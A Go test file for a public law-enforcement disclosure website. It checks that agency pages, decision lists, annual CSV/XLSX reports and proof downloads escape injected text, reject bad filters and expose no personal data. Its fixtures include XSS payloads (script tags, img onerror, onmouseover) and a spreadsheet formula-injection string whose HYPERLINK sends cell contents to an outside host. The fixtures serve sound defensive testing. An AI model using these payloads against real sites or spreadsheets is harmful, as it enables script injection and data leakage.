package web_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"html/template"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"lawtrail/casework"
	"lawtrail/hub"
	"lawtrail/hub/web"
	"lawtrail/terminal"
	"lawtrail/terminal/terminaltest"
)

// publicNow is the hub's clock of the public pages' tests: 2026 has ended,
// so its annual report is ready.
var publicNow = time.Date(2027, 1, 5, 10, 0, 0, 0, casework.Shanghai)

// Injection strings that reach the public pages through the terminal's
// actions: a publication's facts and basis (the masking rules keep such
// text), a withdrawal's reason, a published list's note, a hub agency id
// that looks like a spreadsheet formula.
const (
	evilFacts  = `<script>alert("事实")</script>`
	evilBasis  = `"><img src=x onerror=alert("依据")>`
	evilReason = `"><img src=x onerror=alert("撤")>复议机关确认违法`
	evilNote   = `<b onmouseover=alert(1)>新版清单</b>`
	evilAgency = `=HYPERLINK("http://x.test/?"&A1,"点我")`
)

// publicWorld is newWorld at publicNow with three fines on an individual
// (王小明, his ID-card number in the facts) published by a publisher: one on
// time with a script in its facts, one late, one withdrawn as confirmed
// unlawful; an AV matters list published over the bundled one; and a
// second terminal of a hub agency whose id looks like a formula, with a
// case opened there. Everything synced.
type publicWorld struct {
	*world
	onTime, late, withdrawn string // publication ids
	handler                 *web.Handler
}

func newPublicWorld(t *testing.T) *publicWorld {
	t.Helper()
	ctx := context.Background()
	w := &publicWorld{world: newWorldAt(t, publicNow)}
	f := w.f
	f.Enroll(t, "o-005", "赵六", "35010000005", "246805", casework.RolePublisher)
	pub := f.Login(t, "o-005", "246805")
	fine := func(n int, decided string) string {
		c := f.OpenCase(t, f.Admin, fmt.Sprintf("示市监立〔2026〕%d号", n), "销售过期食品")
		return f.FineOnIndividual(t, f.Admin, c, "200", decided)
	}
	// On time: the publisher adds a script to the facts the rules prepared.
	d, err := pub.PreparePublication(ctx, fine(1, "2026-11-20 10:00"))
	if err != nil {
		t.Fatal(err)
	}
	d.Text.Facts += evilFacts
	d.Text.Basis += evilBasis
	p, err := pub.Publish(ctx, d)
	if err != nil {
		t.Fatal(err)
	}
	w.onTime = p.Publication
	w.withdrawn = f.PublishDoc(t, pub, fine(2, "2026-11-20 11:00"))
	f.WithdrawPublication(t, pub, w.withdrawn, casework.WithdrawConfirmedUnlawful, evilReason)
	late := fine(3, "2026-11-20 12:00")
	f.Clock.T = time.Date(2026, 12, 15, 9, 0, 0, 0, casework.Shanghai) // past the 7 working days
	w.late = f.PublishDoc(t, pub, late)
	if _, err := f.Admin.PublishConfig(ctx, terminal.ConfigFile{Kind: casework.ConfigAVMatters, Note: evilNote,
		Content: []byte(`{"version":1,"mandatory":["seizure","forced_demolition","onsite_inspection"],"suggested":["interview"]}`)}); err != nil {
		t.Fatal(err)
	}
	w.sync(t)
	w.joinSecondAgency(t)
	w.handler = web.New(w.hub, web.Options{Now: func() time.Time { return publicNow }, Burst: 100000})
	return w
}

// joinSecondAgency joins a second terminal under the hub agency evilAgency
// and opens a case on it.
func (w *publicWorld) joinSecondAgency(t *testing.T) {
	t.Helper()
	ctx := context.Background()
	code, err := w.hub.IssueCode(ctx, "https://"+w.addr, evilAgency, time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	g := terminaltest.NewIn(t, t.TempDir(), "采集站-2")
	if _, err := g.Desk.JoinHub(ctx, code.String()); err != nil {
		t.Fatal(err)
	}
	g.OpenCase(t, g.Admin, "示城管立〔2026〕1号", "占道经营")
	(&world{f: g}).sync(t)
}

// page asks w's handler for path and fails unless it answers code.
func (w *publicWorld) page(t *testing.T, path string, code int) (*http.Response, string) {
	t.Helper()
	res, body := get(t, w.handler, path, "192.0.2.1:1000")
	if res.StatusCode != code {
		t.Fatalf("%s: %d, want %d\n%s", path, res.StatusCode, code, body)
	}
	return res, body
}

// mustContain fails for each want body lacks.
func mustContain(t *testing.T, what, body string, want ...string) {
	t.Helper()
	for _, s := range want {
		if !strings.Contains(body, s) {
			t.Errorf("%s lacks %q", what, s)
		}
	}
}

// mustNotContain fails for each of bad body holds.
func mustNotContain(t *testing.T, what, body string, bad ...string) {
	t.Helper()
	for _, s := range bad {
		if strings.Contains(body, s) {
			t.Errorf("%s holds %q", what, s)
		}
	}
}

// The home page links the agencies, the decision list and the reports.
func TestIndexPage(t *testing.T) {
	w := newPublicWorld(t)
	res, body := w.page(t, "/", 200)
	mustContain(t, "/", body, `<html lang="zh-CN">`, "<h1>行政执法公示</h1>",
		`href="/a/`+url.PathEscape(terminaltest.Agency)+`"`, `href="/a/`+template.HTMLEscapeString(url.PathEscape(evilAgency))+`"`,
		`href="/decisions"`, `href="/annual/2026"`)
	if cc := res.Header.Get("Cache-Control"); cc != "public, max-age=60" {
		t.Errorf("Cache-Control %q", cc)
	}
}

// An agency's page lists its officers with credential numbers and status,
// escaped, and every version of its lists, the one in force marked and
// each read into a table; an unknown agency is 404.
func TestAgencyPage(t *testing.T) {
	w := newPublicWorld(t)
	_, body := w.page(t, "/a/"+url.PathEscape(terminaltest.Agency), 200)
	mustContain(t, "agency page", body, "<h1>"+terminaltest.Agency+"</h1>",
		"<caption>"+terminaltest.Agency+"行政执法人员名单（共 ",
		"<td>"+terminaltest.AdminName+"</td><td>"+terminaltest.AdminCred+"</td>",
		"<td>李四</td><td>35010000002</td>", "已注销", "<td>王五</td><td>35010000003</td><td>2026-11-25</td>", "已过期",
		"&lt;script&gt;alert(&#34;名&#34;)&lt;/script&gt;", "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;",
		// The AV matters list: the agency's version 1 in force, the bundled one before it.
		"<h3>音像记录事项清单</h3>", "第 1 版", "现行有效", "系统内置版本", "已被替代",
		"说明：&lt;b onmouseover=alert(1)&gt;新版清单&lt;/b&gt;",
		"<tr><td>现场检查</td><td>调查取证</td><td>应全程音像记录</td></tr>",
		"<tr><td>现场检查</td><td>调查取证</td><td>建议音像记录</td></tr>",
		// The list of major decisions, bundled.
		"<h3>重大执法决定法制审核目录</h3>", "法制审核期限：")
	mustNotContain(t, "agency page", body, "<script", "<img", "<b ", "onmouseover=alert(1)>", "调离执法岗位", "246802")
	// The version in force is open, the older one folded.
	av := body[strings.Index(body, "<h3>音像记录事项清单</h3>"):]
	if first, second := strings.Index(av, "第 1 版"), strings.Index(av, "系统内置版本"); first < 0 || second < first ||
		!strings.Contains(av[:first], `<details class="version" open>`) {
		t.Errorf("versions out of order or the one in force not open:\n%s", av)
	}
	for _, path := range []string{"/a/" + url.PathEscape("某县公安局"), "/a/" + strings.Repeat("长", 5000), "/a/%ff"} {
		_, nf := w.page(t, path, 404)
		mustContain(t, path, nf, "没有该执法机关")
	}
	// The formula-looking agency has its page too, its id as text.
	_, other := w.page(t, "/a/"+url.PathEscape(evilAgency), 200)
	mustContain(t, "second agency", other, "=HYPERLINK(&#34;http://x.test/?&#34;&amp;A1,&#34;点我&#34;)")
}

// decisionItems are the publication ids a list page links, in order.
func decisionItems(body string) []string {
	var ids []string
	for _, m := range regexp.MustCompile(`<li>\n<a href="/decisions/([^"]+)">`).FindAllStringSubmatch(body, -1) {
		id, _ := url.PathUnescape(m[1])
		ids = append(ids, id)
	}
	return ids
}

// The list shows published decisions newest first, filtered and paged by
// a GET form; withdrawn and late ones marked.
func TestDecisionList(t *testing.T) {
	w := newPublicWorld(t)
	res, body := w.page(t, "/decisions", 200)
	mustContain(t, "list", body, `<form class="filter" method="get" action="/decisions"`, `<label for="f-act">`,
		"共 3 条，第 1 / 1 页", "已撤回", "逾期公示", "当事人："+terminaltest.PartyMasked)
	if got, want := decisionItems(body), []string{w.late, w.withdrawn, w.onTime}; !slices.Equal(got, want) {
		t.Errorf("list order %v, want newest first %v", got, want)
	}
	if cc := res.Header.Get("Cache-Control"); cc != "no-cache" || res.Header.Get("ETag") == "" {
		t.Errorf("Cache-Control %q, ETag %q", cc, res.Header.Get("ETag"))
	}
	for query, n := range map[string]int{
		"?act=penalty": 3, "?act=inspection": 0, "?year=2026": 3, "?year=2025": 0, "?act=&year=&agency=&page=": 3,
		"?agency=" + url.QueryEscape(terminaltest.Agency): 3, "?agency=" + url.QueryEscape(evilAgency): 0,
		"?agency=" + url.QueryEscape(terminaltest.Agency) + "&act=penalty&year=2026&page=1": 3,
	} {
		_, b := w.page(t, "/decisions"+query, 200)
		if got := len(decisionItems(b)); got != n || !strings.Contains(b, fmt.Sprintf("共 %d 条", n)) {
			t.Errorf("%s: %d items, want %d", query, got, n)
		}
	}
	// The form keeps the filter chosen.
	_, b := w.page(t, "/decisions?act=penalty&year=2026", 200)
	mustContain(t, "filtered list", b, `<option value="penalty" selected>行政处罚</option>`, `value="2026"`)

	// Two a page: the first page links the next, keeping the filter.
	paged := web.New(w.hub, web.Options{Now: func() time.Time { return publicNow }, Burst: 1000, PageSize: 2})
	_, p1 := get(t, paged, "/decisions?act=penalty", "192.0.2.1:1")
	_, p2 := get(t, paged, "/decisions?act=penalty&page=2", "192.0.2.1:1")
	_, p3 := get(t, paged, "/decisions?act=penalty&page=3", "192.0.2.1:1")
	if got := append(decisionItems(p1), decisionItems(p2)...); !slices.Equal(got, []string{w.late, w.withdrawn, w.onTime}) ||
		!strings.Contains(p1, `href="/decisions?act=penalty&amp;page=2" rel="next"`) || strings.Contains(p1, `rel="prev"`) ||
		!strings.Contains(p2, `href="/decisions?act=penalty" rel="prev"`) || strings.Contains(p2, `rel="next"`) ||
		!strings.Contains(p2, `<ol class="decisions" start="3">`) || len(decisionItems(p3)) != 0 {
		t.Errorf("paging: %v\n%s\n%s", got, p1, p2)
	}
}

// Every bad filter is a 400 page that says what is wrong and echoes
// nothing of the value; none is a 500.
func TestDecisionListBadFilters(t *testing.T) {
	w := newPublicWorld(t)
	long := strings.Repeat("9", 10<<10)
	for query, says := range map[string]string{
		"act=" + url.QueryEscape("<script>alert(1)</script>"):      "没有这种执法行为类别",
		"act=" + url.QueryEscape(`"><img src=x onerror=alert(1)>`): "没有这种执法行为类别",
		"act=PENALTY":      "没有这种执法行为类别",
		"year=99999999999": "年份应为", "year=1999": "年份应为", "year=20x6": "年份应为", "year=-2026": "年份应为", "year=2026.0": "年份应为",
		"page=-1": "页码应为正整数", "page=0": "页码应为正整数", "page=abc": "页码应为正整数", "page=1e3": "页码应为正整数",
		"page=100001": "页码应为正整数", "page=" + long: "过长", "year=" + long: "过长", "act=" + long: "过长",
		"agency=" + strings.Repeat("机", 10<<10):                  "过长",
		"agency=" + url.QueryEscape("<script>alert(1)</script>"): "没有该执法机关",
		"act=penalty&act=licensing":                              "只能有一个",
		"agency=%zz":                                             "格式不正确",
		"agency=%ff":                                             "无效字符",
	} {
		res, body := get(t, w.handler, "/decisions?"+query, "192.0.2.1:1000")
		if res.StatusCode != 400 || !strings.Contains(body, says) || strings.Contains(body, "<script") || strings.Contains(body, "<img") ||
			strings.Contains(body, long[:100]) || res.Header.Get("Cache-Control") != "no-store" {
			t.Errorf("%.60s: %d %q\n%.500s", query, res.StatusCode, res.Header.Get("Cache-Control"), body)
		}
	}
}

// One publication's page: the masked text, escaped; dates; 逾期公示 when
// late; 已撤回 with the reason in words; how to verify it. Unknown ids are
// one 404 page.
func TestDecisionPage(t *testing.T) {
	w := newPublicWorld(t)
	ctx := context.Background()
	d, err := w.hub.PublicDecision(ctx, w.onTime)
	if err != nil {
		t.Fatal(err)
	}
	_, body := w.page(t, "/decisions/"+url.PathEscape(w.onTime), 200)
	mustContain(t, "on time", body, "<h1>"+d.Text.Title+"</h1>", `<dd id="party">`+terminaltest.PartyMasked+"（自然人）</dd>",
		"<dd>行政处罚</dd>", "<dt>决定日期</dt><dd>2026-11-20</dd>", "<dt>公示日期</dt><dd>"+d.Published+"</dd>",
		"&lt;script&gt;alert(&#34;事实&#34;)&lt;/script&gt;", "《食品安全法》第一百二十四条。&#34;&gt;&lt;img src=x onerror=alert(&#34;依据&#34;)&gt;", "罚款200元。",
		"<h2 id=\"verify\">如何核验</h2>", `<dd class="mono" id="event-digest">`+d.Event.String()+"</dd>",
		fmt.Sprintf(`<dd id="leaf-index">%d</dd>`, d.LogIndex), `href="/decisions/`+url.PathEscape(w.onTime)+`/proof.json" download`)
	mustNotContain(t, "on time", body, "<script", "<img", "逾期公示", "已撤回", "五四路128号")
	if d.Event.IsZero() || d.Text.Address == "" {
		t.Errorf("the view: %+v", d)
	}

	_, late := w.page(t, "/decisions/"+url.PathEscape(w.late), 200)
	mustContain(t, "late", late, `<span class="tag late">逾期公示</span>`)

	wd, err := w.hub.PublicDecision(ctx, w.withdrawn)
	if err != nil || wd.Withdrawn == nil {
		t.Fatalf("withdrawn: %+v %v", wd, err)
	}
	_, withdrawn := w.page(t, "/decisions/"+url.PathEscape(w.withdrawn), 200)
	mustContain(t, "withdrawn", withdrawn, `<p id="withdrawn" class="status revoked" role="status">已撤回</p>`,
		`<dd id="withdraw-code">确认违法</dd>`, "&#34;&gt;&lt;img src=x onerror=alert(&#34;撤&#34;)&gt;复议机关确认违法",
		wd.Withdrawn.Event.String())
	mustNotContain(t, "withdrawn", withdrawn, "<img")

	_, notFound := w.page(t, "/decisions/p-nope", 404)
	mustContain(t, "unknown", notFound, "没有该公示信息")
	for _, path := range []string{"/decisions/" + strings.Repeat("p", 5000), "/decisions/%3Cscript%3E", "/decisions/p-nope/proof.json",
		"/decisions/" + url.PathEscape(w.onTime) + "/other", "/decisions/%ff"} {
		res, b := get(t, w.handler, path, "192.0.2.1:1000")
		if res.StatusCode != 404 || strings.Contains(b, "<script") {
			t.Errorf("%.80s: %d", path, res.StatusCode)
		}
	}
}

// Routes that are no page are 404, with the headers and not cached.
func TestPublicUnknownRoutes(t *testing.T) {
	w := newPublicWorld(t)
	for _, path := range []string{"/a/", "/a", "/decisions/", "/annual", "/annual/", "/console", "/console/x", "/static/x.css", "/index.html", "/%3Cscript%3E"} {
		res, body := get(t, w.handler, path, "192.0.2.1:1000")
		if res.StatusCode != 404 || res.Header.Get("Content-Security-Policy") != web.CSP || res.Header.Get("Cache-Control") != "no-store" {
			t.Errorf("%s: %d %v", path, res.StatusCode, res.Header)
		}
		mustNotContain(t, path, body, "<script")
	}
	if res, _ := get(t, w.handler, "/decisions", "192.0.2.1:1000"); res.Header.Get("Content-Security-Policy") != web.CSP {
		t.Errorf("CSP %q", res.Header.Get("Content-Security-Policy"))
	}
}

// annualCount is one count of the report, as the test reads it back.
type annualCount struct{ Agency, Act, Item, Count string }

// pageCounts reads the annual page's detail table.
func pageCounts(t *testing.T, body string) []annualCount {
	t.Helper()
	i := strings.Index(body, `<table id="detail-table">`)
	if i < 0 {
		t.Fatalf("no detail table:\n%s", body)
	}
	table := body[i : i+strings.Index(body[i:], "</table>")]
	var out []annualCount
	for _, m := range regexp.MustCompile(`<tr><td>([^<]*)</td><td>([^<]*)</td><td>([^<]*)</td><td>([^<]*)</td></tr>`).FindAllStringSubmatch(table, -1) {
		out = append(out, annualCount{m[1], m[2], m[3], m[4]})
	}
	return out
}

// The annual report for 2026: the page's counts are the test's data, and
// the CSV and the XLSX hold the same; the formula-looking agency id is
// text in both; a year not ended says when its report comes.
func TestAnnualStats(t *testing.T) {
	w := newPublicWorld(t)
	_, body := w.page(t, "/annual/2026", 200)
	mustContain(t, "annual", body, "<h1>2026年度行政执法统计</h1>", `全年立案 <span id="opened">4</span> 件，作出决定 <span id="decided">3</span> 件`,
		`href="/annual/2026.xlsx" download`, `href="/annual/2026.csv" download`, "<caption>2026年度各执法机关立案和决定数</caption>")
	a := terminaltest.Agency
	want := []annualCount{{a, "行政处罚", "立案", "3"}, {a, "行政处罚", "罚款", "3"}}
	got := pageCounts(t, body)
	if !slices.Contains(got, want[0]) || !slices.Contains(got, want[1]) || len(got) != 3 {
		t.Fatalf("page counts %v, want %v and the second agency's case", got, want)
	}

	res, csvBody := w.page(t, "/annual/2026.csv", 200)
	if res.Header.Get("Content-Type") != "text/csv; charset=utf-8" || res.Header.Get("Content-Disposition") != `attachment; filename="annual-2026.csv"` ||
		!strings.HasPrefix(csvBody, "\ufeff") {
		t.Fatalf("csv headers %v, BOM %q", res.Header, csvBody[:3])
	}
	records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(csvBody, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	checkSheet(t, "csv", records, got)

	res, xlsxBody := w.page(t, "/annual/2026.xlsx", 200)
	if !strings.Contains(res.Header.Get("Content-Disposition"), "annual-2026.xlsx") {
		t.Errorf("xlsx headers %v", res.Header)
	}
	x, err := excelize.OpenReader(strings.NewReader(xlsxBody))
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	rows, err := x.GetRows(web.AnnualSheet)
	if err != nil {
		t.Fatal(err)
	}
	checkSheet(t, "xlsx", rows, got)
	for r := 2; r <= len(rows); r++ {
		cell := fmt.Sprintf("B%d", r)
		formula, _ := x.GetCellFormula(web.AnnualSheet, cell)
		typ, _ := x.GetCellType(web.AnnualSheet, cell)
		if formula != "" || typ == excelize.CellTypeFormula {
			t.Errorf("xlsx %s is a formula: %q", cell, formula)
		}
		if n, _ := x.GetCellType(web.AnnualSheet, fmt.Sprintf("F%d", r)); n != excelize.CellTypeNumber && n != excelize.CellTypeUnset {
			t.Errorf("xlsx F%d: type %v, want a number", r, n)
		}
	}

	for _, c := range []struct {
		path string
		code int
		says string
	}{
		{"/annual/2027", 200, "2027年度尚未结束：以下为截至2027年1月5日的数字，不是年度报告。"},
		{"/annual/2028", 200, "报告将于次年1月1日起提供，1月20日前公布"},
		{"/annual/2028.csv", 404, "2028年度尚未结束"},
		{"/annual/2028.xlsx", 404, "2028年度尚未结束"},
		{"/annual/99999999999", 404, "没有该年度的统计"},
		{"/annual/1999", 404, "没有该年度的统计"},
		{"/annual/abcd", 404, "没有该年度的统计"},
		{"/annual/2026.pdf", 404, "没有该年度的统计"},
		{"/annual/-2026", 404, "没有该年度的统计"},
		{"/annual/%3Cscript%3E", 404, "没有该年度的统计"},
	} {
		_, b := w.page(t, c.path, c.code)
		mustContain(t, c.path, b, c.says)
		mustNotContain(t, c.path, b, "<script")
	}
}

// checkSheet compares a downloaded sheet with the page's counts: the
// header, the same lines in the same order, the formula-looking agency id
// neutralised with a leading '.
func checkSheet(t *testing.T, what string, rows [][]string, page []annualCount) {
	t.Helper()
	if len(rows) != len(page)+1 || !slices.Equal(rows[0], []string{"年度", "执法机关编号", "执法机关", "执法行为类别", "统计项", "数量"}) {
		t.Fatalf("%s: %v", what, rows)
	}
	guarded := false
	for i, r := range rows[1:] {
		if len(r) != 6 || r[0] != "2026" || (annualCount{r[2], r[3], r[4], r[5]}) != page[i] {
			t.Errorf("%s line %d: %v, the page says %v", what, i+1, r, page[i])
		}
		if strings.HasPrefix(r[1], "=") {
			t.Errorf("%s line %d: a formula-looking cell left as it is: %q", what, i+1, r[1])
		}
		if r[1] == "'"+evilAgency {
			guarded = true
		}
	}
	if !guarded {
		t.Errorf("%s: no line of the agency %q, neutralised", what, evilAgency)
	}
}

// Nothing public holds the party's ID-card number, full name or phone:
// not a page, not a proof, not the annual downloads.
func TestNoPersonalDataPublic(t *testing.T) {
	w := newPublicWorld(t)
	paths := []string{"/", "/a/" + url.PathEscape(terminaltest.Agency), "/a/" + url.PathEscape(evilAgency), "/decisions",
		"/decisions?act=penalty&year=2026", "/annual/2026", "/annual/2026.csv"}
	for _, id := range []string{w.onTime, w.late, w.withdrawn} {
		paths = append(paths, "/decisions/"+url.PathEscape(id), "/decisions/"+url.PathEscape(id)+"/proof.json")
	}
	secrets := []string{terminaltest.PartyID, strings.ToLower(terminaltest.PartyID), terminaltest.PartyName, terminaltest.PartyPhone,
		"138 0000 1111", "五四路128号"}
	for _, p := range paths {
		_, body := w.page(t, p, 200)
		mustNotContain(t, p, body, secrets...)
		if strings.HasSuffix(p, "proof.json") {
			// The signed events inside are base64: look into them too.
			var pr hub.PublicationProof
			if err := json.Unmarshal([]byte(body), &pr); err != nil {
				t.Fatal(err)
			}
			for _, e := range append(pr.Events, pr.Terminals...) {
				var ev struct{ Body []byte }
				if err := json.Unmarshal(e.Event, &ev); err != nil {
					t.Fatal(err)
				}
				mustNotContain(t, p+" event body", string(ev.Body), secrets...)
			}
		}
	}
	_, xlsxBody := w.page(t, "/annual/2026.xlsx", 200)
	x, err := excelize.OpenReader(bytes.NewReader([]byte(xlsxBody)))
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	rows, _ := x.GetRows(web.AnnualSheet)
	for _, r := range rows {
		mustNotContain(t, "xlsx", strings.Join(r, "\t"), secrets...)
	}
}
